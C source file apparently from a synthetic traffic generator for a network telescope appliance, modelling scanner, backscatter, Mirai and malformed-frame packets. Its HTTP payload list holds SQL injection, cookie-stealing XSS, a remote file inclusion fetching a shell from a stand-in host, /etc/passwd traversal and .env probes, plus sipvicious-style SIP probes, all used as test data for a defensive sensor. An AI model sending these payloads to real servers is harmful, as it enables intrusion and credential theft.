/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * traffic.c — obscura-gen's traffic model (gen.h): what each kind's packets look like,
 * and the frames the appliance must drop.
 *
 * Traffic kinds (the source's "kind" in the truth):
 *   background            many random, bursty, mostly short-lived sources; random
 *                         protocols and ports (TCP SYN, UDP, ICMP echo, GRE/ESP/IPv6-in-IPv4)
 *   backscatter           "victims" answering spoofed floods: SYN-ACK, RST, ICMP unreachable
 *   mirai                 TCP SYN to 23/2323 (a few to other Mirai ports) with seq == dst
 *   scanner-routine       a /16 sweeping all of D on >= 30 ports, same port set every month
 *   scanner-semi-routine  same, port set drifting (fixed core plus rotating extras)
 *   scanner-ad-hoc        same, unrelated port set every month
 *   scanner-near-miss     just below a SPEC A threshold: 26-29 ports, or 5 months, or
 *                         per-port coverage 0.55-0.7 (variant named in scanner_blocks)
 *   scanner-small         one host sweeping a few ports over part of D
 *   resip                 residential-looking hosts, low rate, many ports, scattered days
 *   payload-http          HTTP GET carrying SQLi / XSS / RFI / traversal strings
 *   payload-sip           SIP OPTIONS on udp/5060 (sipvicious style)
 * plus malformed frames, one family per obx_drop reason of dataplane/exchange.h, valid
 * packets to destinations outside every sensor (not_telescope), and valid frames with one
 * (802.1Q) or two (802.1ad + 802.1Q) VLAN tags.  Sources never lie inside the telescope
 * or in private/reserved space, and every source address has exactly one kind.  (The
 * scanners' packets are shaped by their plan, in run.c.)
 *
 * Malformed frames are built so that every reasonable parse order gives the same single
 * reason (they all go to telescope destinations, a truncated frame is never padded, a
 * frame has exactly one defect), so the truth does not depend on how parse.c orders its
 * checks.  Valid frames shorter than 60 bytes are zero-padded to 60 as a NIC delivers them;
 * UDP length always equals the IP payload length and TCP options are always present.
 * Main thread only.
 */
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include "gen.h"

const uint16_t gen_common_ports[] = { 21, 22, 23, 25, 53, 80, 81, 110, 111, 123, 135,
	139, 143, 161, 389, 443, 445, 465, 502, 587, 631, 873, 993, 995, 1080, 1433, 1521, 1723,
	1883, 1900, 2000, 2049, 2082, 2083, 2222, 2323, 2375, 3000, 3128, 3306, 3389, 3690, 4443,
	4567, 5000, 5060, 5432, 5555, 5601, 5672, 5900, 5984, 6000, 6379, 6443, 7001, 7547, 8000,
	8008, 8009, 8080, 8081, 8088, 8443, 8888, 9000, 9001, 9090, 9100, 9200, 9300, 9443, 10000,
	10250, 11211, 20000, 27017, 37215, 47808, 49152, 50000, 50070, 52869, 60001, 61616 };
_Static_assert(sizeof gen_common_ports / sizeof gen_common_ports[0] == GEN_N_COMMON, "GEN_N_COMMON");

uint16_t gen_port_random(void)
{
	return gen_unit() < 0.6 ? gen_common_ports[gen_below(GEN_N_COMMON)] : (uint16_t)gen_range(1, 65535);
}

static const char *const gen_http_paths[] = {
	"/index.php?id=1%27%20UNION%20SELECT%201,2,concat(user(),0x3a,version())--%20-",
	"/products.php?cat=1%20AND%201=1%20OR%20%271%27=%271",
	"/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
	"/comment?text=<script>alert(1)</script>",
	"/index.php?page=http://203.0.113.66/shell.txt?",
	"/cgi-bin/../../../../etc/passwd",
	"/.env",
	"/",
	"/wp-login.php",
	"/login.php?user=admin%27--&pass=x",
};
_Static_assert(sizeof gen_http_paths / sizeof gen_http_paths[0] == GEN_N_HTTP, "GEN_N_HTTP");

static uint8_t gen_plbuf[1400];

static uint16_t gen_http_payload(uint32_t dst, unsigned variant)
{
	int n = snprintf((char *)gen_plbuf, sizeof gen_plbuf,
	                 "GET %s HTTP/1.1\r\nHost: %u.%u.%u.%u\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\n"
	                 "Accept: */*\r\nConnection: close\r\n\r\n",
	                 gen_http_paths[variant % GEN_N_HTTP], dst >> 24, (dst >> 16) & 255, (dst >> 8) & 255, dst & 255);
	return (uint16_t)n;
}

static uint16_t gen_sip_payload(uint32_t src, uint32_t dst, uint16_t sport)
{
	uint32_t tag = (uint32_t)gen_rand();
	int n = snprintf((char *)gen_plbuf, sizeof gen_plbuf,
	                 "OPTIONS sip:100@%u.%u.%u.%u SIP/2.0\r\n"
	                 "Via: SIP/2.0/UDP %u.%u.%u.%u:%u;branch=z9hG4bK-%08x;rport\r\n"
	                 "Max-Forwards: 70\r\nTo: \"sipvicious\"<sip:100@1.1.1.1>\r\n"
	                 "From: \"sipvicious\"<sip:100@1.1.1.1>;tag=%08x\r\n"
	                 "User-Agent: friendly-scanner\r\nCall-ID: %u\r\nContact: sip:100@%u.%u.%u.%u:%u\r\n"
	                 "CSeq: 1 OPTIONS\r\nAccept: application/sdp\r\nContent-Length: 0\r\n\r\n",
	                 dst >> 24, (dst >> 16) & 255, (dst >> 8) & 255, dst & 255,
	                 src >> 24, (src >> 16) & 255, (src >> 8) & 255, src & 255, sport, tag, tag ^ 0x5a5a,
	                 tag * 7u, src >> 24, (src >> 16) & 255, (src >> 8) & 255, src & 255, sport);
	return (uint16_t)n;
}

/* Fill the kind-specific fields of one packet from a single-source process. */
void gen_shape(struct gen_proc *p, struct gen_src *s, struct gen_pkt *k, uint32_t dst)
{
	memset(k, 0, sizeof *k);
	k->src = s->addr;
	k->dst = dst;
	k->ttl = s->ttl;
	k->id = s->ip_id++;
	switch ((enum gen_kind)p->kind) {
	case GEN_K_BACKGROUND: {
		double u = gen_unit();
		k->df = gen_unit() < 0.5;
		if (u < 0.68) {
			k->proto = 6; k->flags = OBS_TCP_SYN; k->seq = (uint32_t)gen_rand();
			k->sport = (uint16_t)gen_range(1024, 65535);
			k->dport = p->mode ? p->port : gen_port_random();
			k->win = (uint16_t)(gen_unit() < 0.5 ? 65535 : 1024 * gen_range(1, 64));
			if (gen_unit() < 0.5) { k->opt = gen_opt_linux; k->optlen = sizeof gen_opt_linux; }
		} else if (u < 0.88) {
			k->proto = 17;
			k->sport = (uint16_t)gen_range(1024, 65535);
			k->dport = p->mode ? p->port : gen_port_random();
			k->pllen = (uint16_t)gen_below(65);
			for (unsigned i = 0; i < k->pllen; i++)
				gen_plbuf[i] = (uint8_t)gen_rand();
			k->pl = gen_plbuf;
		} else if (u < 0.97) {
			k->proto = 1; k->icmp_type = 8;
			k->icmp_rest = (uint32_t)gen_rand();
			k->pllen = (uint16_t)(8 * gen_range(0, 7));
			memset(gen_plbuf, 0x61, k->pllen);
			k->pl = gen_plbuf;
		} else {
			static const uint8_t other[] = { 47, 50, 41, 132, 103 };
			k->proto = other[gen_below(sizeof other)];
			k->pllen = (uint16_t)(k->proto == 41 ? 40 : gen_range(8, 64));
			for (unsigned i = 0; i < k->pllen; i++)
				gen_plbuf[i] = (uint8_t)gen_rand();
			if (k->proto == 41)
				gen_plbuf[0] = 0x60;
			k->pl = gen_plbuf;
		}
		break;
	}
	case GEN_K_BACKSCATTER:
		switch (p->mode) {
		case 0:   /* SYN-ACK from the attacked service */
			k->proto = 6; k->flags = OBS_TCP_SYN | OBS_TCP_ACK; k->df = true;
			k->sport = p->port; k->dport = (uint16_t)gen_range(1024, 65535);
			k->seq = (uint32_t)gen_rand(); k->ack = (uint32_t)gen_rand();
			k->win = 29200; k->opt = gen_opt_mss; k->optlen = 4;
			break;
		case 1:   /* RST / RST-ACK */
			k->proto = 6; k->flags = gen_unit() < 0.7 ? (OBS_TCP_RST | OBS_TCP_ACK) : OBS_TCP_RST;
			k->sport = p->port; k->dport = (uint16_t)gen_range(1024, 65535);
			k->seq = (uint32_t)gen_rand(); k->ack = (uint32_t)gen_rand();
			break;
		default: { /* ICMP unreachable / time exceeded quoting the spoofed packet */
			static const uint8_t codes[] = { 0, 1, 3, 3, 3, 13 };
			k->proto = 1;
			k->icmp_type = p->mode == 3 ? 11 : 3;
			k->icmp_code = p->mode == 3 ? 0 : codes[gen_below(sizeof codes)];
			uint8_t *in = gen_plbuf;
			uint32_t victim = s->addr ^ (uint32_t)gen_range(1, 255);
			gen_ipv4(in, dst, victim, 17, 28 + 32, (uint16_t)gen_rand(), (uint8_t)gen_range(40, 64), 0);
			gen_put16(in + 20, (uint16_t)gen_range(1024, 65535));
			gen_put16(in + 22, p->port);
			gen_put16(in + 24, 40);
			gen_put16(in + 26, (uint16_t)gen_rand());
			k->pl = in; k->pllen = 28;
			break;
		}
		}
		break;
	case GEN_K_MIRAI:
		/* Mirai scanner.c: raw SYN, no options, seq = daddr, random window and id. */
		k->proto = 6; k->flags = OBS_TCP_SYN;
		k->sport = (uint16_t)gen_range(1024, 65535);
		k->dport = p->mode ? p->port : (gen_unit() < 0.9 ? 23 : 2323);
		k->seq = dst; k->win = (uint16_t)gen_rand(); k->id = (uint16_t)gen_rand();
		break;
	case GEN_K_RESIP:
		if (gen_unit() < 0.85) {
			k->proto = 6; k->flags = OBS_TCP_SYN; k->df = true; k->seq = (uint32_t)gen_rand();
			k->sport = (uint16_t)gen_range(49152, 65535);
			k->dport = gen_unit() < 0.8 ? gen_common_ports[gen_below(GEN_N_COMMON)]
			                            : (uint16_t)gen_range(1, 65535);
			k->win = 64240; k->opt = gen_opt_linux; k->optlen = sizeof gen_opt_linux;
		} else {
			static const uint16_t up[] = { 53, 123, 161, 1900, 5060, 5353, 11211, 19 };
			k->proto = 17; k->sport = (uint16_t)gen_range(49152, 65535);
			k->dport = up[gen_below(sizeof up / sizeof up[0])];
			k->pllen = 16; memset(gen_plbuf, 0, 16); k->pl = gen_plbuf;
		}
		break;
	case GEN_K_PAYLOAD_HTTP:
		k->proto = 6; k->flags = 0x18; k->df = true;   /* PSH|ACK with the request */
		k->sport = (uint16_t)gen_range(32768, 60999); k->dport = p->port;
		k->seq = (uint32_t)gen_rand(); k->ack = (uint32_t)gen_rand(); k->win = 502;
		k->pllen = gen_http_payload(dst, p->mode + (unsigned)gen_below(3));
		k->pl = gen_plbuf;
		break;
	case GEN_K_PAYLOAD_SIP:
		k->proto = 17; k->sport = p->port; k->dport = 5060;
		k->pllen = gen_sip_payload(s->addr, dst, k->sport);
		k->pl = gen_plbuf;
		break;
	default:
		break;
	}
}

/* Emit one accepted telescope packet of source s at time t. */
void gen_emit_valid(uint64_t t, uint32_t si, const struct gen_pkt *k, unsigned sensor)
{
	uint8_t *f = gen_frame_slot();
	uint32_t len = gen_build(f, gen_vlan_pick(), sensor, k);
	gen_frame_commit(t, len);
	struct gen_src *s = &gen_src[si];
	s->packets++;
	s->bytes += len;
	if (t < s->first_ns)
		s->first_ns = t;
	if (t > s->last_ns)
		s->last_ns = t;
	s->sensor_mask |= 1ULL << sensor;
	gen_tot.tel_packets++;
	gen_tot.tel_bytes += len;
	gen_tot.proto[gen_proto_idx(k->proto)]++;
	gen_tot.kind_packets[s->kind]++;
	if (gen_resip_path)
		gen_resip_log(t, s->addr, k);
}

/* ------------------------------------------------------------------ malformed frames */

/* Families in the order of enum obx_drop: one frame with exactly one defect each. */
uint32_t gen_malformed(uint8_t *f, unsigned fam, uint64_t j)
{
	unsigned sensor, nv = gen_below(10) == 0 ? 1 : 0;   /* some behind a VLAN tag */
	uint32_t dst = gen_tel_random(&sensor), src = 0;
	while (!gen_addr_public(src))
		src = (uint32_t)gen_rand();
	struct gen_pkt k = { .src = src, .dst = dst, .proto = 6, .ttl = 50, .id = (uint16_t)j,
		.flags = OBS_TCP_SYN, .sport = 40000, .dport = 80, .seq = 1, .win = 1024 };
	uint8_t *ip;
	uint32_t len;
	switch (fam) {
	case OBX_DROP_TRUNC_L2:
		if (j & 1) {                 /* ends inside the Ethernet header */
			gen_eth(f, 0, 0x0800, sensor);
			return (uint32_t)gen_range(1, 13);
		}
		gen_eth(f, 1, 0x0800, sensor);   /* ends inside the VLAN tag */
		return (uint32_t)gen_range(14, 17);
	case OBX_DROP_NOT_IPV4:
		switch (j % 3) {
		case 0:                      /* ARP who-has, padded */
			ip = gen_eth(f, nv, 0x0806, sensor);
			memcpy(ip, "\x00\x01\x08\x00\x06\x04\x00\x01", 8);
			memcpy(ip + 8, f + 6, 6); gen_put32(ip + 14, src);
			memset(ip + 18, 0, 6); gen_put32(ip + 24, dst);
			len = (uint32_t)(ip + 28 - f);
			break;
		case 1: {                    /* IPv6 TCP SYN */
			ip = gen_eth(f, nv, 0x86dd, sensor);
			memset(ip, 0, 60);
			ip[0] = 0x60; gen_put16(ip + 4, 20); ip[6] = 6; ip[7] = 57;
			ip[8] = 0x20; ip[9] = 0x01; ip[10] = 0x0d; ip[11] = 0xb8; gen_put32(ip + 20, src);
			ip[24] = 0x20; ip[25] = 0x01; ip[26] = 0x0d; ip[27] = 0xb8; gen_put32(ip + 36, dst);
			gen_put16(ip + 40, 40000); gen_put16(ip + 42, 22); ip[52] = 0x50; ip[53] = 0x02;
			len = (uint32_t)(ip + 60 - f);
			break;
		}
		default:                     /* LLDP */
			ip = gen_eth(f, 0, 0x88cc, sensor);
			memcpy(ip, "\x02\x07\x04\x00\x1b\x21\x3a\x4f\x90\x04\x03\x05\x65\x30\x06\x02\x00\x78\x00\x00", 20);
			len = (uint32_t)(ip + 20 - f);
			break;
		}
		return len < 60 ? (memset(f + len, 0, 60 - len), 60) : len;
	case OBX_DROP_VLAN_DEPTH:        /* three 802.1Q tags, then a valid packet */
		ip = gen_eth(f, 3, 0x0800, sensor);
		len = gen_build(ip - 14, 0, sensor, &k);   /* writes eth at ip-14: rewrite tags after */
		gen_eth(f, 3, 0x0800, sensor);
		return len + 12;
	case OBX_DROP_TRUNC_IP:          /* 1..19 bytes of a normal IPv4 header */
		ip = gen_eth(f, nv, 0x0800, sensor);
		gen_ipv4(ip, src, dst, 6, 40, (uint16_t)j, 50, 0);
		return (uint32_t)(ip - f) + (uint32_t)gen_range(1, 19);
	default:
		break;
	}
	/* The rest start from a complete valid frame and break one field. */
	if (fam == OBX_DROP_TRUNC_L4 || fam == OBX_DROP_BAD_L4) {
		static const uint8_t protos[] = { 6, 17, 1 };
		k.proto = protos[j % (fam == OBX_DROP_BAD_L4 ? 2 : 3)];
		k.icmp_type = 8;
	}
	if (fam == OBX_DROP_FRAGMENT && (j & 1)) {
		k.proto = 17; k.dport = 53; k.pllen = 40; memset(gen_plbuf, 0x41, 40); k.pl = gen_plbuf;
	}
	len = gen_build(f, nv, sensor, &k);
	ip = f + 14 + 4 * nv;
	uint8_t *l4 = ip + 20;
	switch (fam) {
	case OBX_DROP_BAD_VERSION: {
		static const uint8_t ver[] = { 6, 0, 5, 15 };
		ip[0] = (uint8_t)(ver[j % 4] << 4 | 5);
		break;
	}
	case OBX_DROP_BAD_IHL:
		ip[0] = (uint8_t)(0x40 | (j % 5));
		break;
	case OBX_DROP_BAD_TOTLEN:
		if (j & 1)
			gen_put16(ip + 2, (uint16_t)gen_range(0, 19));          /* < IHL*4 */
		else
			gen_put16(ip + 2, (uint16_t)gen_range(len - (uint32_t)(ip - f) + 1, 1500));  /* > present */
		break;
	case OBX_DROP_FRAGMENT:
		/* malformed fragments only (well-formed ones are packets of their source):
		 * a first fragment too short for its L4 header, or a middle / last one whose
		 * offset * 8 + length ends past 65535 (offset >= 8188: 65504 + >= 40 bytes) */
		if ((j >> 1) % 3 == 0) {
			unsigned keep = k.proto == 6 ? (unsigned)gen_range(0, 19) :
			                (unsigned)gen_range(0, 7);
			gen_put16(ip + 6, 0x2000);                              /* first fragment, MF */
			gen_put16(ip + 2, (uint16_t)(20 + keep));
			len = (uint32_t)(l4 - f) + keep;
		} else if ((j >> 1) % 3 == 1) {
			gen_put16(ip + 6, (uint16_t)(0x2000 | gen_range(8188, 8191)));  /* middle */
		} else {
			gen_put16(ip + 6, (uint16_t)gen_range(8188, 8191));          /* last */
		}
		break;
	case OBX_DROP_TRUNC_L4: {
		/* L4 header cut short in the datagram and in the frame (no padding to hide it). */
		unsigned keep = k.proto == 6 ? (unsigned)gen_range(0, 19) :
		                k.proto == 17 ? (unsigned)gen_range(0, 7) : (unsigned)gen_range(0, 3);
		gen_put16(ip + 2, (uint16_t)(20 + keep));
		len = (uint32_t)(l4 - f) + keep;
		break;
	}
	case OBX_DROP_BAD_L4:
		if (k.proto == 6) {
			/* data offset < 5, or pointing past the 20-byte segment */
			l4[12] = (uint8_t)(((j >> 1) & 1 ? gen_range(0, 4) : gen_range(6, 15)) << 4);
		} else {
			/* UDP length < 8, or longer than the datagram */
			gen_put16(l4 + 4, (uint16_t)((j >> 1) & 1 ? gen_range(0, 7) : gen_range(9, 1400)));
		}
		return len;   /* checksums are not what makes it bad; leave them */
	default:
		break;
	}
	gen_put16(ip + 10, 0);
	if ((ip[0] & 0x0f) >= 5)
		gen_put16(ip + 10, gen_csum_fold(gen_csum_add(0, ip, 20)));
	return len;
}

/* Valid, complete packet to an address outside every sensor. */
uint32_t gen_not_telescope(uint8_t *f, uint64_t j, unsigned *proto_out)
{
	uint32_t dst, src;
	do {
		/* half near the telescope (same /16 as a prefix, or next to D when D fills
		 * every prefix's /16: telescope.c gen_near_plan), half anywhere */
		if (!(j & 1) || (!gen_near_own && !gen_n_near16))
			dst = (uint32_t)gen_rand();
		else if (gen_near_own)
			dst = (gen_pfx[gen_below(gen_n_pfx)].addr & 0xffff0000u) | (uint32_t)gen_below(65536);
		else
			dst = gen_near16[gen_below(gen_n_near16)] | (uint32_t)gen_below(65536);
	} while (gen_tel_sensor(dst) >= 0 || (dst >> 28) >= 14 || !(dst >> 24));
	do
		src = (uint32_t)gen_rand();
	while (!gen_addr_public(src));
	struct gen_pkt k = { .src = src, .dst = dst, .ttl = 47, .id = (uint16_t)j };
	switch (j % 4) {
	case 0: case 1: k.proto = 6; k.flags = OBS_TCP_SYN; k.sport = 51000; k.dport = 445; k.win = 8192; break;
	case 2: k.proto = 17; k.sport = 5353; k.dport = 53; break;
	default: k.proto = 1; k.icmp_type = 8; break;
	}
	*proto_out = k.proto;
	return gen_build(f, gen_vlan_pick(), 0, &k);
}
